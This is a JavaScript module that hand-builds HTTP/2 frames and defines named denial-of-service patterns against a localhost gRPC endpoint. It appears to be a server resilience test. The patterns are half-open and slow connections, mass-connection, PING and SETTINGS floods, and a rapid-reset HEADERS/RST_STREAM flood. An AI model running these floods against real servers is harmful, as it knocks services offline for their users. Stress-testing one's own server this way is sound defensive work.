/** Of RFC 9113 section 6. */
const Frame = { DATA: 0, HEADERS: 1, RST_STREAM: 3, SETTINGS: 4, PING: 6 }
const END_HEADERS = 4
const END_STREAM = 1
const CANCEL = Buffer.of(0, 0, 0, 8)
const HELLO = Buffer.concat([
  Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
  frame(Frame.SETTINGS, 0, 0),
])

/**
 * By name: what a connection says at first, what it says next, and how often a second; `connections`
 * is how many are kept open, from how many `addresses`. One that is cut is opened again.
 */
export const ATTACKS = {
  'half-open': { connections: 500, hello: Buffer.from('PRI'), perSecond: 0 },
  '1 byte a second': { connections: 500, hello: HELLO, next: () => Buffer.of(0), perSecond: 1 },
  '10,000 arriving': { connections: 10_000, hello: HELLO, perSecond: 0 },
  // By then all have been opened, and whoever was cut is coming back.
  '10,000 idle': { connections: 10_000, hello: HELLO, perSecond: 0, aheadSeconds: 6 },
  pings: flood(repeated(frame(Frame.PING, 0, 0, Buffer.alloc(8)), 100)),
  settings: flood(repeated(frame(Frame.SETTINGS, 0, 0), 100)),
  resets: flood((ids) =>
    call(ids, 20, (id) => [
      frame(Frame.HEADERS, END_HEADERS, id, headers()),
      frame(Frame.RST_STREAM, 0, id, CANCEL),
    ]),
  ),
  'bad signatures': flood((ids) =>
    call(ids, 5, (id) => [
      frame(Frame.HEADERS, END_HEADERS, id, headers()),
      frame(Frame.DATA, END_STREAM, id, ids.message),
    ]),
  ),
}

/** Four connections, each with so many writes a second. */
function flood(next) {
  return { connections: 4, hello: HELLO, next, perSecond: 50 }
}

function repeated(bytes, count) {
  const all = Buffer.concat(Array(count).fill(bytes))
  return () => all
}

/** `count` streams in one write; `ids.last` is the connection's. */
function call(ids, count, frames) {
  return Buffer.concat(
    Array.from({ length: count }, () => {
      ids.last += 2
      return Buffer.concat(frames(ids.last))
    }),
  )
}

function frame(type, flags, streamId, payload = Buffer.alloc(0)) {
  const header = Buffer.alloc(9)
  header.writeUIntBE(payload.length, 0, 3)
  header[3] = type
  header[4] = flags
  header.writeUInt32BE(streamId, 5)
  return Buffer.concat([header, payload])
}

/** Literals without indexing (RFC 7541 section 6.2.2). */
function headers() {
  const text = (value) => Buffer.concat([Buffer.of(value.length), Buffer.from(value)])
  const fields = [':method', 'POST', ':scheme', 'http', ':authority', 'localhost'].concat([
    ':path',
    '/session.Session/Create',
    'content-type',
    'application/grpc',
    'te',
    'trailers',
  ])
  return Buffer.concat(
    fields.map((f, i) => (i % 2 ? text(f) : Buffer.concat([Buffer.of(0), text(f)]))),
  )
}
